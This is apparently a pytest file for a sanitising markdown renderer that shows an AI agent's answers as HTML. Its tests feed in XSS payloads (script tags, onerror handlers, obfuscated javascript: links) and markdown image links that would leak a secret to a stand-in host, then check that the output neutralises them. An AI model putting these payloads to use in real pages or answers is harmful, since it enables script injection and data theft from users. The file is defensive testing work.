"""An agent's answer as HTML: it reads well, and does nothing."""

from __future__ import annotations

import pytest

from bb_jupyter.notebook.views.markdown import markdown


def test_markdown_reads_as_markdown() -> None:
    html = markdown(
        "# Title\n\n**bold** `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx < 1\n```\n"
    )
    for part in (
        "<h1>Title</h1>",
        "<strong>bold</strong>",
        "<code>code</code>",
        "<li>one</li>",
        "<td>1</td>",
        "x &lt; 1",
    ):
        assert part in html


@pytest.mark.parametrize(
    ("text", "never"),
    [
        ("<script>alert(1)</script>", "<script"),
        ("a <img src=x onerror=alert(1)> b", "<img"),
        ("![leak](https://evil.test/?q=secret)", "<img"),
        ("![leak][r]\n\n[r]: https://evil.test/x", "<img"),
        ("[x](javascript:alert(1))", "href"),
        ("[x](JaVaScRiPt:alert(1))", "href"),
        ("[x](&#106;avascript:alert(1))", "href"),
        ("[x](data:text/html,hi)", "href"),
        ("[x](vbscript:x) <javascript:alert(1)>", "href"),
        ("[x](/relative/../../api)", "href"),
        ('[x](https://a.test/" onclick="alert(1))', 'onclick="alert'),
        ("a\u202eb &#x202e; \x1b[2J", "\u202e"),
        ("a&#8203;b", "\u200b"),
        ('```x" onload="y\n```', 'onload="y'),
    ],
)
def test_what_it_never_becomes(text: str, never: str) -> None:
    assert never not in markdown(text)


def test_a_link_says_where_it_leads() -> None:
    html = markdown("[https://bank.test](https://evil.test/login)")
    assert "(evil.test)" in html and 'rel="noopener noreferrer nofollow"' in html


def test_a_huge_or_deep_answer_is_shown_all_the_same() -> None:
    assert markdown("x" * 300_000).startswith("<pre>")
    assert len(markdown("> " * 5000 + "x")) < 100_000
    assert "x" in markdown("[" * 5000 + "x" + "](" * 5000)
